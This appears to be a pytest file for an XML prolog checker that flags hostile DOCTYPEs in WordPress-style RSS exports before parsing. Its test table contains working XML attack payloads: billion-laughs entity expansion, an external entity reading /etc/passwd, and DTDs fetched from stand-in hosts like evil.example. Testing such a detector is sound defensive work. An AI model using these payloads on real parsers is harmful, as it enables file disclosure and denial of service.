"""The prolog check that refuses hostile XML before any parser reads it: a table of prologs."""

from __future__ import annotations

import pytest

from flowport.connectors._xml_prolog import PROLOG_LIMIT, hostile_prolog

ROOT = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel/></rss>\n'
LAUGHS = '<!ENTITY lol0 "lol">\n' + "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(1, 10)
)


@pytest.mark.parametrize(
    ("document", "line", "reason"),
    [
        pytest.param(ROOT, None, None, id="no-doctype"),
        pytest.param('<?xml version="1.0"?>\n' + ROOT, None, None, id="declaration-only"),
        pytest.param("<!DOCTYPE rss>\n" + ROOT, None, None, id="doctype-without-subset"),
        pytest.param(
            "<!DOCTYPE rss [\n<!ELEMENT rss ANY>\n]>\n" + ROOT, None, None, id="subset-no-entity"
        ),
        pytest.param(
            f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{LAUGHS}]>\n' + ROOT,
            2,
            "the DOCTYPE declares entities (lol0, lol1, lol2, lol3, lol4)",
            id="billion-laughs",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + ROOT,
            1,
            "the DOCTYPE declares entities (xxe)",
            id="external-entity",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>' + ROOT,
            1,
            "the DOCTYPE declares entities (p)",
            id="parameter-entity",
        ),
        pytest.param(
            '<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">' + ROOT,
            1,
            'the DOCTYPE points at an external DTD (SYSTEM "http://evil.example/rss.dtd")',
            id="external-dtd-system",
        ),
        pytest.param(
            '<!DOCTYPE rss PUBLIC "-//X//DTD" "rss.dtd" [<!ELEMENT rss ANY>]>' + ROOT,
            1,
            "the DOCTYPE points at an external DTD",
            id="external-dtd-public",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ATTLIST rss a CDATA "]>"> <!ENTITY hidden "x">]>' + ROOT,
            1,
            "the DOCTYPE declares entities (hidden)",
            id="bracket-inside-a-literal",
        ),
        pytest.param(
            '\ufeff<?xml version="1.0"?>\n<!-- exported -->\n<?pi x?>\n'
            '<!DOCTYPE rss [<!ENTITY e "x">]>' + ROOT,
            4,
            "the DOCTYPE declares entities (e)",
            id="bom-comment-pi-before",
        ),
        pytest.param(
            ROOT.replace("<channel/>", "<channel><![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]>]]>"),
            None,
            None,
            id="doctype-text-inside-the-document",
        ),
    ],
)
def test_prolog_table(document: str, line: int | None, reason: str | None) -> None:
    found = hostile_prolog(document.encode("utf-8"), complete=True)
    if reason is None:
        assert found is None
        return
    assert found is not None
    assert found.line == line
    assert found.reason.startswith(reason)


def test_utf16_with_bom_is_read() -> None:
    document = '<!DOCTYPE rss [<!ENTITY e "x">]>' + ROOT
    found = hostile_prolog(
        "\ufeff".encode("utf-16-le") + document.encode("utf-16-le"), complete=True
    )
    assert found is not None
    assert "declares entities (e)" in found.reason


def test_a_prolog_that_never_ends_is_refused_unless_the_file_ends() -> None:
    endless = b"<!DOCTYPE rss [" + b"<!-- padding -->" * (PROLOG_LIMIT // 16)
    head = endless[:PROLOG_LIMIT]
    refused = hostile_prolog(head, complete=False)
    assert refused is not None
    assert "without reaching the root element" in refused.reason
    # A whole file that stops mid-prolog is the parser's to call malformed.
    assert hostile_prolog(b"<!DOCTYPE rss [<!-- cut", complete=True) is None
